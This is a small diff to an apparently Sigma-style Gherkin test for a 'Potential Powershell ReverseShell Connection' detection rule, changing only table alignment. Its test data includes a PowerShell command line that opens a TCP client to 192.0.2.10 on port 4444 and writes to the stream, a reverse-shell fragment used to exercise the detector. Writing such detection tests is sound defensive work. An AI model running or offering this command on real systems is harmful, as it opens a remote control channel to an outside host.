@@ -157,7 +157,7 @@ Feature: Potential Powershell ReverseShell Connection
     Scenario: The start of a process, made without a look at the rule
       Given a process creation event with:
         | Image            | C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe |
-        | OriginalFileName | PowerShell.EXE                                            |
+        | OriginalFileName | PowerShell.EXE                                                 |
       And its CommandLine is:
         """
         powershell "$c = New-Object Net.Sockets.TCPClient('192.0.2.10', 4444); $s = $c.GetStream(); $s.Write($b, 0, 9)"
